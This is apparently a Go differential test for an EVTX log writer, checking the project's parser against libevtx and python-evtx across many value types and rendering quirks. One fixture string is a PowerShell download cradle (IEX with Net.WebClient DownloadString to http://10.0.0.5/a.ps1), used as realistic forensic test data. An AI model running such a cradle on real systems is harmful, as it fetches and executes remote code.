package evtxwrite_test

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"encoding/xml"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"triage/internal/demo"
	"triage/internal/evtxwrite"
	"triage/parsers/evtx"
)

// The differential test writes logs with the writer and reads them back
// with our parser (parsers/evtx), libevtx's evtxexport and python-evtx's
// evtx_dump.py. Every record must be read by all three, and every System
// field and EventData value must be what was written, as Windows renders
// it. The two reference tools render some types their own way; each such
// way is a rule below, applied only to the type it is about and counted.

// typed is a value with the text Windows (and our parser) renders it as.
type typed struct {
	v    evtxwrite.Value
	want string
}

var t0 = time.Date(2026, 3, 14, 9, 26, 53, 589793200, time.UTC)

// valueKinds covers every value type the writer produces, with awkward
// values: extremes, text that needs XML escaping, non-ASCII text.
func valueKinds() []typed {
	return []typed{
		{evtxwrite.String(`C:\Windows\System32\cmd.exe /c "echo <a> & b"`), `C:\Windows\System32\cmd.exe /c "echo <a> & b"`},
		{evtxwrite.String("Grüße, 東京 — ok"), "Grüße, 東京 — ok"},
		{evtxwrite.String(""), ""},
		{evtxwrite.UInt8(255), "255"},
		{evtxwrite.UInt16(65535), "65535"},
		{evtxwrite.UInt32(4294967295), "4294967295"},
		{evtxwrite.UInt64(18446744073709551615), "18446744073709551615"},
		{evtxwrite.Int32(-5), "-5"},
		{evtxwrite.Int32(2147483647), "2147483647"},
		{evtxwrite.Int64(-9000000000), "-9000000000"},
		{evtxwrite.HexInt32(0x1a2c), "0x1a2c"},
		{evtxwrite.HexInt64(0x3e7), "0x3e7"},
		{evtxwrite.HexInt64(0x8020000000000000), "0x8020000000000000"},
		{evtxwrite.Bool(true), "true"},
		{evtxwrite.Bool(false), "false"},
		{evtxwrite.Binary([]byte{0x00, 0x01, 0xab, 0xff}), "0001ABFF"},
		{evtxwrite.GUID("{0c4e2b7a-1f3d-4e5a-9b8c-7d6e5f4a3b2c}"), "{0C4E2B7A-1F3D-4E5A-9B8C-7D6E5F4A3B2C}"},
		{evtxwrite.FileTime(t0), "2026-03-14T09:26:53.5897932Z"},
		{evtxwrite.SystemTime(t0), "2026-03-14T09:26:53.5890000Z"},
		{evtxwrite.SID("S-1-5-21-3623811015-3361044348-30300820-1013"), "S-1-5-21-3623811015-3361044348-30300820-1013"},
		{evtxwrite.SID("S-1-5-18"), "S-1-5-18"},
	}
}

// testEvents builds a log of several chunks and templates: each event
// carries a rotating selection of the value kinds, some events have no
// optional System parts, some unnamed Data, some long strings.
func testEvents() ([]evtxwrite.Event, [][]string) {
	kinds := valueKinds()
	var events []evtxwrite.Event
	var wants [][]string
	for i := range 600 {
		ev := evtxwrite.Event{
			Provider: "Microsoft-Windows-Security-Auditing", ProviderGUID: "{54849625-5478-4994-A5BA-3E3B0328C30D}",
			EventID: uint16(4600 + i%7), Version: uint8(i % 3), Level: uint8(i % 5), Task: uint16(12000 + i),
			Opcode: uint8(i % 2), Keywords: 0x8020000000000000 >> (i % 4), Time: t0.Add(time.Duration(i) * 1500 * time.Millisecond),
			ProcessID: uint32(600 + i), ThreadID: uint32(7000 + i), Channel: "Security", Computer: "WS01.corp.example",
		}
		if i%3 == 1 {
			ev.Provider, ev.ProviderGUID = "PowerShell", ""
			ev.HasQualifier, ev.Qualifiers = true, uint16(i%2)
			ev.Channel = "Windows PowerShell"
			ev.UserID = "S-1-5-21-1-2-3-1104"
		}
		if i%4 == 2 {
			ev.ActivityID = fmt.Sprintf("{%08X-0000-4000-8000-%012X}", i, i*7919)
		}
		var want []string
		n := 1 + i%len(kinds)
		for j := range n {
			k := kinds[(i+j)%len(kinds)]
			name := fmt.Sprintf("Field%d", j)
			if i%3 == 1 {
				name = "" // the classic PowerShell log's unnamed <Data>
			}
			ev.Data = append(ev.Data, evtxwrite.Field{Name: name, Value: k.v})
			want = append(want, k.want)
		}
		if i%50 == 7 {
			long := strings.Repeat("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1'); ", 200)
			ev.Data = append(ev.Data, evtxwrite.Str("ScriptBlockText", long))
			want = append(want, long)
		}
		events = append(events, ev)
		wants = append(wants, want)
	}
	return events, wants
}

// field is one value read back: its name ("" for unnamed Data) and text.
type field struct{ name, value string }

// readBack is what one reader gives for a record.
type readBack struct {
	system map[string]string // System field name → text
	data   []field
}

func TestWriterDifferential(t *testing.T) {
	events, wants := testEvents()
	for i := range events {
		for j, f := range events[i].Data {
			if got := f.Value.String(); got != wants[i][j] {
				t.Fatalf("Value.String of type 0x%02x: %q, want %q", f.Value.Type(), got, wants[i][j])
			}
		}
	}
	b, err := evtxwrite.Bytes(events)
	if err != nil {
		t.Fatal(err)
	}
	compareReaders(t, b, events, wants)
}

// TestDemoLogsDifferential runs the same comparison on the demo's logs,
// whose events are as realistic as the writer gets: CR LF and tabs in
// the engine events' text, XML in a task's content, multi-part blocks.
func TestDemoLogsDifferential(t *testing.T) {
	if testing.Short() {
		t.Skip("runs python-evtx on the demo's logs (about 20 s); skipped with -short")
	}
	files, err := demo.Files()
	if err != nil {
		t.Fatal(err)
	}
	logs := demo.Logs()
	for _, f := range files {
		name := f.Path[strings.LastIndex(f.Path, "/")+1:]
		events, ok := logs[name]
		if !ok {
			continue
		}
		t.Run(name, func(t *testing.T) {
			var wants [][]string
			for _, ev := range events {
				var w []string
				for _, d := range ev.Data {
					w = append(w, d.Value.String())
				}
				wants = append(wants, w)
			}
			compareReaders(t, f.Data, events, wants)
		})
	}
}

// compareReaders writes b, reads it with the three readers and compares
// every record with events, whose EventData values render as wants.
func compareReaders(t *testing.T, b []byte, events []evtxwrite.Event, wants [][]string) {
	for _, tool := range []string{"evtxexport", "evtx_dump.py"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Fatalf("%s not found: this test needs Debian's libevtx-utils and python3-evtx (apt-get install libevtx-utils python3-evtx)", tool)
		}
	}
	path := filepath.Join(t.TempDir(), "written.evtx")
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
	ours := readOurs(t, path)
	readers := map[string]map[uint64]readBack{"ours": ours,
		"evtxexport":  readXML(t, "evtxexport", runTool(t, "evtxexport", "-f", "xml", path)),
		"python-evtx": readXML(t, "python-evtx", runTool(t, "evtx_dump.py", path)),
	}
	counts := map[string]int{}
	compared := 0
	for i := range events {
		id := uint64(i + 1)
		wantSys := systemWant(&events[i], id)
		for name, got := range readers {
			rb, ok := got[id]
			if !ok {
				t.Errorf("%s: record %d missing", name, id)
				continue
			}
			for key, want := range wantSys {
				compared++
				if g := rb.system[key]; g != want {
					if rule := excuse(name, key, 0, want, g); rule != "" {
						counts[name+" "+rule]++
						continue
					}
					t.Errorf("%s: record %d: %s = %q, want %q", name, id, key, g, want)
				}
			}
			for key := range rb.system {
				if _, ok := wantSys[key]; !ok && rb.system[key] != "" {
					t.Errorf("%s: record %d: %s = %q, not written", name, id, key, rb.system[key])
				}
			}
			if len(rb.data) != len(events[i].Data) {
				t.Errorf("%s: record %d: %d data values, want %d", name, id, len(rb.data), len(events[i].Data))
				continue
			}
			for j, f := range events[i].Data {
				compared++
				g := rb.data[j]
				if g.name != f.Name {
					t.Errorf("%s: record %d: value %d named %q, want %q", name, id, j, g.name, f.Name)
				}
				if g.value != wants[i][j] {
					if rule := excuse(name, f.Name, f.Value.Type(), wants[i][j], g.value); rule != "" {
						counts[name+" "+rule]++
						continue
					}
					t.Errorf("%s: record %d: %s (type 0x%02x) = %q, want %q", name, id, f.Name, f.Value.Type(), g.value, wants[i][j])
				}
			}
		}
	}
	for name, got := range readers {
		if len(got) != len(events) {
			t.Errorf("%s: %d records, want %d", name, len(got), len(events))
		}
	}
	t.Logf("%d records in %d bytes (%d chunks), %d values compared per reader", len(events), len(b), (len(b)-4096)/65536, compared/3)
	for k, n := range counts {
		t.Logf("  excused: %-45s %d", k, n)
	}
}

func runTool(t *testing.T, name string, args ...string) []byte {
	var stderr bytes.Buffer
	cmd := exec.Command(name, args...)
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil || stderr.Len() > 0 {
		t.Fatalf("%s: %v: %s", name, err, stderr.String())
	}
	return out
}

func readOurs(t *testing.T, path string) map[uint64]readBack {
	f, err := evtx.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	out := map[uint64]readBack{}
	for rec, err := range f.Records() {
		if err != nil {
			t.Errorf("ours: %v", err)
			continue
		}
		s := rec.System
		if rec.ID != s.EventRecordID || !rec.Written.Equal(s.TimeCreated) || rec.Recovered {
			t.Errorf("ours: record %d: header id %d, written %v, recovered %v", s.EventRecordID, rec.ID, rec.Written, rec.Recovered)
		}
		rb := readBack{system: map[string]string{
			"Provider.Name": s.Provider, "Provider.Guid": s.ProviderGUID, "EventID": u(s.EventID),
			"Version": u(s.Version), "Level": u(s.Level), "Task": u(s.Task), "Opcode": u(s.Opcode),
			"Keywords": "0x" + strconv.FormatUint(s.Keywords, 16), "TimeCreated.SystemTime": s.TimeCreated.Format(evtx.TimeLayout),
			"EventRecordID": u(s.EventRecordID), "Correlation.ActivityID": s.ActivityID,
			"Execution.ProcessID": u(s.ProcessID), "Execution.ThreadID": u(s.ThreadID),
			"Channel": s.Channel, "Computer": s.Computer, "Security.UserID": s.UserID,
		}}
		if s.Qualifiers != 0 || strings.Contains(rec.XML(), "Qualifiers=") {
			rb.system["EventID.Qualifiers"] = u(s.Qualifiers)
		}
		for _, d := range rec.Data {
			rb.data = append(rb.data, field{d.Name, d.Value})
		}
		out[s.EventRecordID] = rb
	}
	if st := f.Stats(); st.CRCErrors != 0 || st.Errors != 0 || !f.Header().CRCValid {
		t.Errorf("ours: stats %+v, header crc valid %v", st, f.Header().CRCValid)
	}
	return out
}

func u[T uint8 | uint16 | uint32 | uint64](n T) string { return strconv.FormatUint(uint64(n), 10) }

// systemWant is the System element as written, rendered as Windows does.
func systemWant(ev *evtxwrite.Event, id uint64) map[string]string {
	m := map[string]string{
		"Provider.Name": ev.Provider, "EventID": u(ev.EventID), "Version": u(ev.Version),
		"Level": u(ev.Level), "Task": u(ev.Task), "Opcode": u(ev.Opcode),
		"Keywords": "0x" + strconv.FormatUint(ev.Keywords, 16), "TimeCreated.SystemTime": ev.Time.Format(evtx.TimeLayout),
		"EventRecordID": u(id), "Execution.ProcessID": u(ev.ProcessID), "Execution.ThreadID": u(ev.ThreadID),
		"Channel": ev.Channel, "Computer": ev.Computer,
	}
	if ev.ProviderGUID != "" {
		m["Provider.Guid"] = strings.ToUpper(ev.ProviderGUID)
	}
	if ev.HasQualifier {
		m["EventID.Qualifiers"] = u(ev.Qualifiers)
	}
	if ev.ActivityID != "" {
		m["Correlation.ActivityID"] = strings.ToUpper(ev.ActivityID)
	}
	if ev.UserID != "" {
		m["Security.UserID"] = ev.UserID
	}
	return m
}

// xmlNode is a generic element of a reference tool's XML output.
type xmlNode struct {
	XMLName xml.Name
	Attrs   []xml.Attr `xml:",any,attr"`
	Text    string     `xml:",chardata"`
	Kids    []xmlNode  `xml:",any"`
}

// readXML reads the events of evtxexport's or evtx_dump.py's XML output,
// which are concatenated <Event> documents.
func readXML(t *testing.T, tool string, out []byte) map[uint64]readBack {
	res := map[uint64]readBack{}
	for _, part := range bytes.Split(out, []byte("</Event>")) {
		i := bytes.Index(part, []byte("<Event "))
		if i < 0 {
			continue
		}
		var root xmlNode
		if err := xml.Unmarshal(append(part[i:], "</Event>"...), &root); err != nil {
			t.Errorf("%s: %v", tool, err)
			continue
		}
		rb := readBack{system: map[string]string{}}
		for _, k := range root.Kids {
			switch k.XMLName.Local {
			case "System":
				for _, s := range k.Kids {
					if len(s.Kids) == 0 && strings.TrimSpace(s.Text) != "" {
						rb.system[s.XMLName.Local] = s.Text
					}
					for _, a := range s.Attrs {
						rb.system[s.XMLName.Local+"."+a.Name.Local] = a.Value
					}
				}
			case "EventData":
				for _, d := range k.Kids {
					f := field{value: d.Text}
					for _, a := range d.Attrs {
						if a.Name.Local == "Name" {
							f.name = a.Value
						}
					}
					rb.data = append(rb.data, f)
				}
			}
		}
		id, _ := strconv.ParseUint(rb.system["EventRecordID"], 10, 64)
		res[id] = rb
	}
	return res
}

// systemType is the value type the writer gives a System field.
func systemType(key string) byte {
	switch key {
	case "Keywords":
		return 0x15
	case "TimeCreated.SystemTime":
		return 0x11
	case "Provider.Guid", "Correlation.ActivityID":
		return 0x0f
	case "Security.UserID":
		return 0x13
	}
	return 0 // decimal integers and strings, which every reader renders alike
}

// Rules: how a reference tool renders a type unlike Windows, checked to be
// that difference and nothing else.
const (
	// ruleLineEnds: the test reads the tools' XML with Go's decoder, which
	// turns CR LF into LF as XML requires; the tools wrote CR LF.
	ruleLineEnds = "xml-line-ends"
	// Both tools zero-pad HexInt32/HexInt64 to 8/16 digits; Windows does not.
	ruleHexPadded = "hexint-zero-padded"
	// libevtx prints FILETIME with 9 fractional digits.
	ruleFileTimeNanos = "filetime-9-digits"
	// libevtx prints SYSTEMTIME with 3 fractional digits, its precision.
	ruleSystemTimeMillis = "systemtime-3-digits"
	// libevtx 20181227 prints a negative Int32/Int64 n as -(2^31+n) or
	// -(2^63+n): it negates the magnitude bits without the two's complement.
	ruleNegativeInt = "negative-int-sign-magnitude"
	// python-evtx prints GUIDs in lower case.
	ruleGUIDCase = "guid-lowercase"
	// python-evtx prints binary as base64.
	ruleBinaryBase64 = "binary-base64"
	// python-evtx prints True/False.
	ruleBoolCase = "bool-capitalized"
	// python-evtx converts FILETIME through a float to microseconds and
	// prints "2006-01-02 15:04:05.999999".
	ruleFileTimeFloat = "filetime-float-microseconds"
	// python-evtx prints SYSTEMTIME as "2006-01-02 15:04:05.999999" with
	// the milliseconds passed as microseconds (.589 becomes .000589).
	ruleSystemTimeMicros = "systemtime-ms-as-us"
)

func excuse(reader, name string, typ byte, want, got string) string {
	if reader != "ours" && strings.ReplaceAll(strings.ReplaceAll(want, "\r\n", "\n"), "\r", "\n") == got {
		return ruleLineEnds
	}
	if name != "" && typ == 0 {
		typ = systemType(name)
	}
	wantTime, _ := time.Parse(evtx.TimeLayout, want)
	switch typ {
	case 0x14, 0x15:
		width := 8
		if typ == 0x15 {
			width = 16
		}
		n, err := strconv.ParseUint(strings.TrimPrefix(want, "0x"), 16, 64)
		if err == nil && got == fmt.Sprintf("0x%0*x", width, n) {
			return ruleHexPadded
		}
	case 0x07, 0x09:
		n, err := strconv.ParseInt(want, 10, 64)
		bits := int64(1) << 31
		if typ == 0x09 {
			bits = 1 << 62 // 2^63 overflows; checked as twice 2^62
			if err == nil && n < 0 && reader == "evtxexport" && got == "-"+strconv.FormatUint(uint64(bits)*2-uint64(-n), 10) {
				return ruleNegativeInt
			}
			return ""
		}
		if err == nil && n < 0 && reader == "evtxexport" && got == strconv.FormatInt(-(bits+n), 10) {
			return ruleNegativeInt
		}
	case 0x0d:
		if reader == "python-evtx" && strings.ToLower(got) == want && (got == "True" || got == "False") {
			return ruleBoolCase
		}
	case 0x0e:
		b, err := base64.StdEncoding.DecodeString(got)
		if reader == "python-evtx" && err == nil && strings.ToUpper(hex.EncodeToString(b)) == want {
			return ruleBinaryBase64
		}
	case 0x0f:
		if reader == "python-evtx" && strings.ToUpper(got) == want {
			return ruleGUIDCase
		}
	case 0x11:
		if reader == "evtxexport" {
			if g, err := time.Parse(time.RFC3339Nano, got); err == nil && g.Equal(wantTime) && len(got) == len("2006-01-02T15:04:05.123456789Z") {
				return ruleFileTimeNanos
			}
		}
		if reader == "python-evtx" {
			g, err := time.Parse("2006-01-02 15:04:05.999999", got)
			if d := g.Sub(wantTime); err == nil && d < 4*time.Microsecond && d > -4*time.Microsecond {
				return ruleFileTimeFloat
			}
		}
	case 0x12:
		if reader == "evtxexport" {
			if g, err := time.Parse(time.RFC3339Nano, got); err == nil && g.Equal(wantTime) && len(got) == len("2006-01-02T15:04:05.123Z") {
				return ruleSystemTimeMillis
			}
		}
		if reader == "python-evtx" {
			g, err := time.Parse("2006-01-02 15:04:05.999999", got)
			ms := time.Duration(g.Nanosecond()/1000) * time.Millisecond
			if err == nil && g.Nanosecond()%1000 == 0 && g.Truncate(time.Second).Add(ms).Equal(wantTime) {
				return ruleSystemTimeMicros
			}
		}
	}
	return ""
}
